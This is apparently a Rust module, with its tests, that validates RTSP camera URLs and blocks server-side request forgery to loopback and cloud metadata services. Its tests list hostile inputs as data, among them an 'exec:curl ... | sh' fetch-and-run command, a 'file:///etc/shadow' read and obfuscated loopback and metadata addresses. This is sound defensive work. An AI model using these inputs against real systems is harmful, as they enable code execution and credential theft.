//! Which addresses may be a camera. The service connects to what this lets through, so it is the
//! guard against being sent to the machine itself or to a cloud's metadata service. A host name
//! passes here; whoever resolves it asks [`refusal`] again about each address it got.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use url::{Host, Url};

/// What is wrong with an address, and what to do.
pub(super) struct Refused {
    pub(super) problem: String,
    pub(super) remedy: String,
}

/// Reads the address of a stream. A refusal never repeats the address: it may hold a password.
pub(super) fn stream_url(text: &str, allow_loopback: bool) -> Result<Url, Refused> {
    let scheme = text.split_once(':').map(|(scheme, _)| scheme.to_ascii_lowercase());
    match scheme.as_deref() {
        Some("rtsp") if text[5..].starts_with("//") => {}
        Some("rtsps") => {
            return refuse(
                "rtsps (RTSP over TLS) is not supported",
                "use the camera's rtsp:// address on a network of its own",
            );
        }
        Some(scheme) if text.contains("://") || NOT_CAMERAS.contains(&scheme) => {
            return refuse(
                format!("{:?} is not a camera's scheme", shortened(scheme)),
                "use rtsp://host:port/path; programs and files cannot be sources",
            );
        }
        _ => return refuse("has no scheme", "write rtsp:// in front of host:port/path"),
    }
    let url = Url::parse(text).map_err(|error| Refused {
        problem: format!("cannot be read: {error}"),
        remedy: "use rtsp://host:port/path".into(),
    })?;
    // A password with '/' or '#' in it ends the host early, so '@' anywhere means a sign-in.
    if text.contains('@') || !url.username().is_empty() || url.password().is_some() {
        return refuse(
            "holds a sign-in",
            "write it as username = \"…\" and password_file = \"secrets/…\", never in the address",
        );
    }
    if url.fragment().is_some() {
        return refuse("holds a '#'", "write %23 if the camera's path has one");
    }
    if text.chars().any(char::is_whitespace) {
        return refuse("holds a space", "write %20 if the camera's path has one");
    }
    if url.port() == Some(0) {
        return refuse("port 0 cannot be connected to", "use the camera's RTSP port, usually 554");
    }
    let host = url.host_str().unwrap_or_default();
    // `rtsp` is not one of the schemes whose hosts the URL standard reads as numbers, but resolvers
    // do read 127.1 and 0x7f000001, so read it as they would and insist on the plain form.
    match Host::parse(host) {
        Ok(Host::Ipv4(ip)) if ip.to_string() != host => {
            return refuse("the host is a number in an unusual form", format!("write it as {ip}"));
        }
        Ok(Host::Ipv4(ip)) => refuse_ip(ip.into(), allow_loopback)?,
        Ok(Host::Ipv6(ip)) => refuse_ip(ip.into(), allow_loopback)?,
        Ok(Host::Domain(name)) => refuse_name(&name, allow_loopback)?,
        Err(_) => return refuse("has no usable host", "use an IP address or a host name"),
    }
    Ok(url)
}

/// Why a camera may not be at this address, or `None` if it may.
pub fn refusal(ip: IpAddr, allow_loopback: bool) -> Option<&'static str> {
    let ip = ip.to_canonical();
    if ip.is_loopback() {
        return (!allow_loopback).then_some("is this machine itself");
    }
    if METADATA.contains(&ip) {
        return Some("is a cloud's metadata service");
    }
    match ip {
        IpAddr::V4(v4) if v4.octets()[0] == 0 => Some("is no address of a device"),
        IpAddr::V4(v4) if v4.is_link_local() => Some("is link-local"),
        IpAddr::V4(v4) if v4.is_broadcast() || v4.is_multicast() => Some("is a group of devices"),
        IpAddr::V6(v6) if v6.is_unspecified() => Some("is no address of a device"),
        IpAddr::V6(v6) if v6.is_unicast_link_local() => Some("is link-local"),
        IpAddr::V6(v6) if v6.is_multicast() => Some("is a group of devices"),
        _ => None,
    }
}

fn refuse_ip(ip: IpAddr, allow_loopback: bool) -> Result<(), Refused> {
    match refusal(ip, allow_loopback) {
        Some(why) => refuse(format!("{ip} {why}"), remedy(ip.to_canonical().is_loopback())),
        None => Ok(()),
    }
}

fn refuse_name(name: &str, allow_loopback: bool) -> Result<(), Refused> {
    let name = name.trim_end_matches('.');
    let local = name == "localhost" || name.ends_with(".localhost");
    if local && !allow_loopback {
        return refuse(format!("{name} is this machine itself"), remedy(true));
    }
    if name == "metadata.google.internal" {
        return refuse(format!("{name} is a cloud's metadata service"), remedy(false));
    }
    Ok(())
}

fn remedy(loopback: bool) -> &'static str {
    if loopback {
        "use the camera's own address; for a simulator on this machine set allow_loopback = true under [ingest]"
    } else {
        "use the camera's own address"
    }
}

fn refuse<T>(problem: impl Into<String>, remedy: impl Into<String>) -> Result<T, Refused> {
    Err(Refused { problem: problem.into(), remedy: remedy.into() })
}

fn shortened(scheme: &str) -> String {
    scheme.chars().take(16).collect()
}

/// Sources that other products take and that run a program or read a file; here so that the fault
/// says so, not because anything else would be let through.
const NOT_CAMERAS: [&str; 8] =
    ["exec", "ffmpeg", "pipe", "file", "concat", "fd", "data", "subfile"];

/// Those outside the link-local ranges: AWS over IPv6, Alibaba Cloud, Oracle Cloud.
const METADATA: [IpAddr; 3] = [
    IpAddr::V6(Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254)),
    IpAddr::V4(Ipv4Addr::new(100, 100, 100, 200)),
    IpAddr::V4(Ipv4Addr::new(192, 0, 0, 192)),
];

#[cfg(test)]
mod tests {
    use super::*;

    fn problem(text: &str) -> Option<String> {
        stream_url(text, false).err().map(|refused| refused.problem)
    }

    #[test]
    fn an_ordinary_camera_address_is_taken_as_it_is() {
        for text in [
            "rtsp://192.0.2.10:554/sub",
            "rtsp://192.0.2.10/Streaming/Channels/102?transportmode=unicast",
            "rtsp://cam-7.cameras.example/h264",
            "rtsp://[2001:db8::7]:8554/cam/realmonitor?channel=1&subtype=1",
            "RTSP://10.0.0.1/",
        ] {
            assert_eq!(problem(text), None, "{text}");
        }
    }

    #[test]
    fn what_is_not_a_camera_is_refused_and_its_sign_in_never_repeated() {
        for (text, expected) in [
            ("rtsps://192.0.2.1/sub", "rtsps"),
            ("exec:curl http://192.0.2.9/x|sh", "\"exec\""),
            ("file:///etc/shadow", "\"file\""),
            ("http://192.0.2.1/", "\"http\""),
            ("ffmpeg:device?video=0", "\"ffmpeg\""),
            ("192.0.2.1:554/sub", "no scheme"),
            ("rtsp:192.0.2.1/sub", "no scheme"),
            ("rtsp://viewer:canary@192.0.2.1/", "sign-in"),
            ("rtsp://viewer:can/ary@192.0.2.1/", "cannot be read"),
            ("rtsp://viewer:12/ary@192.0.2.1/", "sign-in"),
            ("rtsp://192.0.2.1/#x", "'#'"),
            ("rtsp://192.0.2.1:0/", "port 0"),
            ("rtsp:///sub", "cannot be read|no usable host"),
        ] {
            let problem = problem(text).unwrap_or_else(|| panic!("{text} was taken"));
            assert!(expected.split('|').any(|part| problem.contains(part)), "{text}: {problem}");
            assert!(!problem.contains("canary"), "{problem}");
        }
    }

    #[test]
    fn the_machine_itself_and_metadata_services_are_refused_in_every_spelling() {
        for host in [
            "127.0.0.1",
            "127.9.9.9",
            "localhost",
            "cam.localhost",
            "localhost.",
            "[::1]",
            "[::ffff:127.0.0.1]",
            "127.1",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "0.0.0.0",
            "[::]",
            "169.254.169.254",
            "[fe80::1]",
            "[fd00:ec2::254]",
            "100.100.100.200",
            "metadata.google.internal",
            "224.0.0.1",
            "255.255.255.255",
            "[::ffff:169.254.169.254]",
        ] {
            assert!(problem(&format!("rtsp://{host}:554/sub")).is_some(), "{host} was taken");
        }
    }

    #[test]
    fn a_simulator_on_loopback_is_taken_once_it_is_allowed() {
        for host in ["127.0.0.1", "localhost", "[::1]"] {
            assert!(stream_url(&format!("rtsp://{host}:8554/cam/001/sub"), true).is_ok(), "{host}");
        }
        assert!(stream_url("rtsp://169.254.169.254/", true).is_err());
    }
}
